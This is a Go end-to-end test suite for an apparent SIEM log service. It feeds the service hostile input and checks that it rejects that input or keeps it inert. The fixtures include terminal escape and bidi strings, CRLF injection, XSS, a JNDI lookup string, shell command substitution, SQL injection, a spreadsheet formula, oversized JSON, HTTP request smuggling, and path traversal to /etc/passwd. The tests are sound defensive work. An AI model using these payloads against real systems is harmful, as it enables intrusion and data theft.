// SPDX-License-Identifier: Apache-2.0

package e2e

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

// hostileTexts are what attackers write where others read it.
func hostileTexts() map[string]string {
	return map[string]string{
		"ansi":     "\x1b[2J\x1b]0;owned\x07\x1b[31mFAKE: all is well\x1b[0m",
		"bidi":     "user \u202etxt.exe\u202c \u2066hidden\u2069",
		"nul":      "before\x00after",
		"crlf":     "line one\r\nHTTP/1.1 200 OK\r\nSet-Cookie: x=1\r\n\r\n",
		"script":   `<script>alert(1)</script><img src=x onerror=alert(1)>`,
		"template": "{{.}} ${jndi:ldap://x.example/a} %s%n %2e%2e%2f `id` $(id)",
		"sql":      `'; DROP TABLE security_alerts; --`,
		"csv":      `=HYPERLINK("http://x.example";"x")`,
		"c1":       "\u009b31mC1\u0085next",
		"long":     strings.Repeat("A", 60_000),
		"newlines": strings.Repeat("\n", 2000),
		"emoji":    strings.Repeat("👩‍👩‍👧‍👦", 300),
		"combine":  "Z" + strings.Repeat("\u0300", 5000),
	}
}

// TestHostileText sends each text in each field: it is kept as it is, comes back
// as valid JSON, and what a command or the log prints of it does nothing to a
// terminal.
func TestHostileText(t *testing.T) {
	t.Parallel()
	s := start(t, binary(t), t.TempDir(), "--syslog", "127.0.0.1:0")
	token := s.token("ingest")
	for name, text := range hostileTexts() {
		quoted, err := json.Marshal(text)
		if err != nil {
			t.Fatal(err)
		}
		record := fmt.Sprintf(`{"id":%q,"source":"authentication","category":"login_failed","outcome":"failure","message":%s,"user":%[2]s`, name, quoted)
		if len(text) < 512 {
			record += fmt.Sprintf(`,"user_agent":%s,"session":%[1]s,"host":%[1]s,"tags":[%[1]s],"attrs":{"k":%[1]s,%[1]s:"v"}`, quoted)
		}
		record += "}"
		status, _, b, err := s.do(request{method: "POST", path: "/api/siem/events", token: token, contentType: "application/json", body: []byte(record)})
		if err != nil || status != 200 && status != 400 || !json.Valid(b) || len(b) > 4096 {
			t.Errorf("%s: %v %d %.300s", name, err, status, b)
		}
		inert(t, "answer to "+name, string(b))
		// The same where a category, a source, a time and a format are asked for.
		for _, field := range []string{"category", "source", "time", "severity", "ip", "outcome"} {
			_, _, b, err := s.do(request{
				method: "POST", path: "/api/siem/events", token: token, contentType: "application/json",
				body: fmt.Appendf(nil, `{"message":"x",%q:%s}`, field, quoted),
			})
			if err != nil || !json.Valid(b) || len(b) > 4096 {
				t.Errorf("%s in %s: %v %.300s", name, field, err, b)
			}
			inert(t, "answer to "+name+" in "+field, string(b))
		}
		for _, path := range []string{
			"/api/siem/logs?q=", "/api/siem/logs?user_id=", "/api/siem/logs?source=", "/api/siem/logs?cursor=", "/api/siem/logs?from=",
			"/api/siem/alerts?rule=", "/api/siem/alerts?cursor=", "/api/siem/anomalies?type=", "/api/siem/logs/", "/api/siem/alerts/", "/api/siem/logs?",
		} {
			status, h, b, err := s.do(request{method: "GET", path: path + url.QueryEscape(text[:min(len(text), 3000)]), token: s.login()})
			if err != nil || status >= 500 || len(b) > 1<<20 || strings.HasPrefix(h.Get("Content-Type"), "application/") && !json.Valid(b) {
				t.Errorf("%s%s: %v %d %.300s", path, name, err, status, b)
			}
		}
	}
	kept := map[string]event{}
	for _, e := range all[event](s, "/api/siem/logs?source=authentication&category=login_failed") {
		kept[e.OriginID] = e
	}
	for name, text := range hostileTexts() {
		if e := kept[name]; e.User != text && len(e.Marks) == 0 {
			t.Errorf("%s: user %.80q, want it as it was sent, or a mark", name, e.User)
		}
	}

	// Lines: over TCP, and with the command.
	file := filepath.Join(t.TempDir(), "lines\x1b[31m.log")
	var lines bytes.Buffer
	for _, text := range hostileTexts() {
		fmt.Fprintf(&lines, "<38>1 %s h sshd 1 - - Failed password for %s from 203.0.113.9 port 1 ssh2\n", time.Now().UTC().Format(time.RFC3339), text)
		fmt.Fprintf(&lines, "{\"message\": %s\n", text)
	}
	lines.WriteString("\xff\xfe\xfd not UTF-8 \xc0\xaf\n")
	if err := os.WriteFile(file, lines.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	conn, err := net.Dial("tcp", s.syslog)
	if err != nil {
		t.Fatal(err)
	}
	_, _ = conn.Write(lines.Bytes())
	_ = conn.Close()
	for _, format := range []string{"auto", "json", "syslog", "text"} {
		out, errOut, _ := s.run("ingest", "--url", s.url, "--token", token, "--format", format, file)
		inert(t, "ingest --format "+format, out+errOut)
		if len(out+errOut) > 256<<10 {
			t.Errorf("ingest --format %s says %d bytes", format, len(out+errOut))
		}
	}
	_, errOut, code := s.run("token", "create", "--name", "a\x1b[31mb", "--scope", "in\x1b[31mgest", "--data", s.data)
	inert(t, "token create", errOut)
	if code == 0 {
		t.Error("a scope that does not exist was taken")
	}
	if page := all[event](s, "/api/siem/logs"); len(page) < len(hostileTexts()) {
		t.Errorf("%d events", len(page))
	}
	s.stop()
	inert(t, "the server's log", s.out.errs.String())
}

// inert fails when a text could do something to a terminal: control characters
// but line ends and tabs, C1, direction marks, or what is no UTF-8.
func inert(t *testing.T, what, text string) {
	t.Helper()
	for i, c := range text {
		switch {
		case c == utf8.RuneError, c < ' ' && c != '\n' && c != '\t', c >= 0x7f && c < 0xa0, c >= 0x202a && c <= 0x202e, c >= 0x2066 && c <= 0x2069:
			t.Errorf("%s has %U: %q", what, c, text[max(0, i-60):min(len(text), i+20)])
			return
		}
	}
}

// TestHostileJSON sends what is JSON and means harm.
func TestHostileJSON(t *testing.T) {
	t.Parallel()
	s := start(t, binary(t), t.TempDir())
	token := s.token("ingest")
	var keys strings.Builder
	for i := range 100_000 {
		fmt.Fprintf(&keys, `,"k%d":%d`, i, i)
	}
	bodies := map[string]string{
		"100k keys":            `{"message":"x","attrs":{"a":1` + keys.String() + `}}`,
		"100k fields":          `{"message":"x"` + keys.String() + `}`,
		"10 MB line":           `{"message":"` + strings.Repeat("x", 10<<20-40) + `"}`,
		"deep arrays":          strings.Repeat("[", 1_000_000) + strings.Repeat("]", 1_000_000),
		"deep open arrays":     strings.Repeat("[", 5_000_000),
		"deep attrs":           `{"message":"x","attrs":{"a":` + strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000) + `}}`,
		"long number":          `{"message":"x","attrs":{"n":` + strings.Repeat("9", 1_000_000) + `}}`,
		"long number as time":  `{"message":"x","time":` + strings.Repeat("9", 200_000) + `}`,
		"large exponent":       `{"message":"x","attrs":{"n":1e999999999,"m":-1e-999999999}}`,
		"duplicate keys":       `{"message":"x"` + strings.Repeat(`,"user":"u"`, 20_000) + `}`,
		"escapes":              `{"message":"` + strings.Repeat(`\u0000\ud800`, 20_000) + `"}`,
		"lone surrogate":       `{"message":"\ud800"}`,
		"empty events":         "[" + strings.Repeat("{},", 400_000) + "{}]",
		"many lines":           strings.Repeat("{}\n", 600_000),
		"blank":                strings.Repeat(" \n", 2_000_000),
		"byte order mark":      "\ufeff" + `{"message":"x"}`,
		"UTF-16":               "\xff\xfe{\x00}\x00",
		"long key":             `{"message":"x","attrs":{"` + strings.Repeat("k", 200_000) + `":1}}`,
		"many tags":            `{"message":"x","tags":[` + strings.Repeat(`"t",`, 60_000) + `"t"]}`,
		"prototype":            `{"message":"x","attrs":{"__proto__":{"a":1},"constructor":1}}`,
		"reserved fields":      `{"message":"x","seq":1,"stream":"system","marks":[{"kind":"late"}],"received":"2000-01-01T00:00:00Z","sender":"root","input":"tocsin"}`,
		"stream by retention":  `{"message":"x","compliance":{"retention_days":99999999}}`,
		"negative retention":   `{"message":"x","compliance":{"retention_days":-1}}`,
		"null everything":      `{"message":null,"user":null,"time":null,"attrs":null,"tags":null,"source":null}`,
		"arrays of everything": `{"message":["x"],"user":["u"],"attrs":[],"tags":"t"}`,
	}
	for name, body := range bodies {
		for _, media := range []string{"application/json", "application/x-ndjson", "text/plain"} {
			began := time.Now()
			status, _, b, err := s.do(request{method: "POST", path: "/api/siem/events", token: token, contentType: media, body: []byte(body)})
			if err != nil || status != 200 && status != 400 && status != 413 {
				t.Errorf("%s as %s: %v %d %.200s", name, media, err, status, b)
			}
			if !json.Valid(b) || len(b) > 128<<10 {
				t.Errorf("%s as %s: an answer of %d bytes: %.200q", name, media, len(b), b)
			}
			if took := time.Since(began); took > 20*time.Second {
				t.Errorf("%s as %s took %v", name, media, took)
			}
		}
		status, _, b, err := s.do(request{method: "POST", path: "/api/security/events", token: token, contentType: "application/json", body: []byte(`{"source":"x","events":[` + body + `]}`)})
		if err != nil || status != 200 && status != 400 && status != 413 || !json.Valid(b) {
			t.Errorf("%s in a webhook: %v %d %.200s", name, err, status, b)
		}
	}
	for _, e := range all[event](s, "/api/siem/logs?q=x") {
		if e.Stream == "system" {
			t.Errorf("a sender chose the stream: %+v", e)
		}
	}
	if hwm := s.status("VmHWM"); hwm > 1<<30 {
		t.Errorf("%d MiB of memory at most", hwm>>20)
	} else {
		t.Logf("%d MiB of memory at most", hwm>>20)
	}
}

// status reads a figure in bytes from /proc/PID/status.
func (s *server) status(name string) int64 {
	s.t.Helper()
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", s.cmd.Process.Pid))
	if err != nil {
		s.t.Skip("needs /proc")
	}
	for line := range strings.Lines(string(b)) {
		if rest, found := strings.CutPrefix(line, name+":"); found {
			var kib int64
			if _, err := fmt.Sscan(rest, &kib); err == nil {
				return kib << 10
			}
		}
	}
	s.t.Fatalf("no %s", name)
	return 0
}

// TestHostileHTTP sends requests that are none, or two: each gets one answer that
// refuses it, or the connection is closed, and the server lives.
func TestHostileHTTP(t *testing.T) {
	t.Parallel()
	s := start(t, binary(t), t.TempDir())
	token := s.token("ingest")
	auth := "Host: x\r\nAuthorization: Bearer " + token + "\r\nContent-Type: application/json\r\n"
	second := "GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n"
	for _, c := range []struct {
		name, raw string
		want      []int // 0: closed without an answer
	}{
		{"two lengths", "POST /api/siem/events HTTP/1.1\r\n" + auth + "Content-Length: 2\r\nContent-Length: 40\r\n\r\n{}" + second, []int{400}},
		{"length and chunks", "POST /api/siem/events HTTP/1.1\r\n" + auth + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", []int{400}},
		{"chunked twice", "POST /api/siem/events HTTP/1.1\r\n" + auth + "Transfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n" + second, []int{400, 501}},
		{"other coding", "POST /api/siem/events HTTP/1.1\r\n" + auth + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", []int{400, 501}},
		{"chunk size", "POST /api/siem/events HTTP/1.1\r\n" + auth + "Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n{}", []int{400}},
		{"negative length", "POST /api/siem/events HTTP/1.1\r\n" + auth + "Content-Length: -1\r\n\r\n", []int{400}},
		{"length with sign", "POST /api/siem/events HTTP/1.1\r\n" + auth + "Content-Length: +2\r\n\r\n{}", []int{400}},
		{"huge length", "POST /api/siem/events HTTP/1.1\r\n" + auth + "Content-Length: 99999999999\r\n\r\n{}", []int{413}},
		{"space before colon", "POST /api/siem/events HTTP/1.1\r\n" + auth + "Content-Length : 2\r\n\r\n{}", []int{400}},
		{"folded header", "GET /healthz HTTP/1.1\r\nHost: x\r\nX-A: a\r\n b\r\n\r\n", []int{200, 400}},
		{"no host", "GET /healthz HTTP/1.1\r\n\r\n", []int{400}},
		{"two hosts", "GET /healthz HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n", []int{400}},
		{"NUL in a header", "GET /healthz HTTP/1.1\r\nHost: x\r\nX-A: a\x00b\r\n\r\n", []int{400}},
		{"invalid UTF-8 in headers", "POST /api/siem/events HTTP/1.1\r\n" + auth + "User-Agent: \xff\xfe\r\nX-\xc0: 1\r\nContent-Length: 2\r\n\r\n{}", []int{200, 400}},
		{"invalid UTF-8 as agent", "GET /api/siem/logs HTTP/1.1\r\nHost: x\r\nUser-Agent: \xff\xfe\r\nAuthorization: Bearer " + token + "\r\n\r\n", []int{403}},
		{"headers of 100 KB", "GET /healthz HTTP/1.1\r\nHost: x\r\nX-A: " + strings.Repeat("a", 100<<10) + "\r\n\r\n", []int{431}},
		{"10,000 headers", "GET /healthz HTTP/1.1\r\nHost: x\r\n" + strings.Repeat("X-A: b\r\n", 10_000) + "\r\n", []int{431}},
		{"long URL", "GET /" + strings.Repeat("a", 60<<10) + " HTTP/1.1\r\nHost: x\r\n\r\n", []int{200, 404, 414, 431}},
		{"traversal", "GET /../../../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n", []int{200, 301, 307, 400, 404}},
		{"encoded traversal", "GET /assets/..%2f..%2f..%2fetc/passwd HTTP/1.1\r\nHost: x\r\n\r\n", []int{200, 301, 307, 400, 404}},
		{"backslashes", "GET /assets/..\\..\\x HTTP/1.1\r\nHost: x\r\n\r\n", []int{301, 400, 404}},
		{"double slash", "GET //api/siem/logs HTTP/1.1\r\nHost: x\r\n\r\n", []int{301, 307, 401, 404}},
		{"dot segments to the API", "GET /assets/../api/siem/logs HTTP/1.1\r\nHost: x\r\n\r\n", []int{301, 307, 401, 404}},
		{"encoded slash", "GET /api/siem/alerts/..%2f..%2ftokens HTTP/1.1\r\nHost: x\r\n\r\n", []int{301, 307, 401, 404}},
		{"absolute form", "GET http://evil.example/api/siem/logs HTTP/1.1\r\nHost: x\r\n\r\n", []int{401, 404}},
		{"CONNECT", "CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: 127.0.0.1:22\r\n\r\n", []int{400, 404, 405}},
		{"TRACE", "TRACE / HTTP/1.1\r\nHost: x\r\nCookie: tocsin_session=secret\r\n\r\n", []int{404, 405}},
		{"odd method", "G\x1bET / HTTP/1.1\r\nHost: x\r\n\r\n", []int{400}},
		{"HTTP/0.9", "GET /\r\n\r\n", []int{400}},
		{"HTTP/9.9", "GET / HTTP/9.9\r\nHost: x\r\n\r\n", []int{400, 505}},
		{"TLS", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + strings.Repeat("\x00", 300), []int{0, 400}},
		{"HTTP/2 preface", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", []int{0, 307, 400, 505}},
		{"upgrade", "GET / HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n", []int{200}},
		{"other encoding", "POST /api/siem/events HTTP/1.1\r\n" + auth + "Content-Encoding: br\r\nContent-Length: 2\r\n\r\n{}", []int{415}},
		{"two encodings", "POST /api/siem/events HTTP/1.1\r\n" + auth + "Content-Encoding: gzip, gzip\r\nContent-Length: 2\r\n\r\n{}", []int{415}},
		{"not gzip", "POST /api/siem/events HTTP/1.1\r\n" + auth + "Content-Encoding: gzip\r\nContent-Length: 2\r\n\r\n{}", []int{400}},
		{"method override", "GET /api/siem/tokens HTTP/1.1\r\n" + auth + "X-HTTP-Method-Override: POST\r\n\r\n", []int{403}},
		{"forwarded", "GET /api/siem/logs HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: 127.0.0.1\r\nX-Original-URL: /healthz\r\n\r\n", []int{401}},
	} {
		statuses, body := s.raw(c.raw)
		found := false
		for _, want := range c.want {
			found = found || want == 0 && len(statuses) == 0 || len(statuses) == 1 && statuses[0] == want
		}
		if !found {
			t.Errorf("%s: answers %v, want one of %v: %.200q", c.name, statuses, c.want, body)
		}
		if strings.Contains(body, "root:x:") || strings.Contains(body, "goroutine ") {
			t.Errorf("%s: the answer tells too much: %.300q", c.name, body)
		}
	}
	if status, _, _, err := s.do(request{method: "GET", path: "/healthz"}); err != nil || status != 200 {
		t.Fatalf("afterwards: %v %d", err, status)
	}
	inert(t, "the server's log", s.out.errs.String())
}

// raw sends bytes and reads answers until the connection is closed or silent.
func (s *server) raw(text string) (statuses []int, body string) {
	s.t.Helper()
	conn, err := net.Dial("tcp", strings.TrimPrefix(s.url, "http://"))
	if err != nil {
		s.t.Fatal(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(20 * time.Second))
	_, _ = io.WriteString(conn, text)
	_ = conn.(*net.TCPConn).CloseWrite()
	in := bufio.NewReader(conn)
	for {
		resp, err := http.ReadResponse(in, nil)
		if err != nil {
			return statuses, body
		}
		b, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
		_ = resp.Body.Close()
		statuses, body = append(statuses, resp.StatusCode), body+string(b)
	}
}
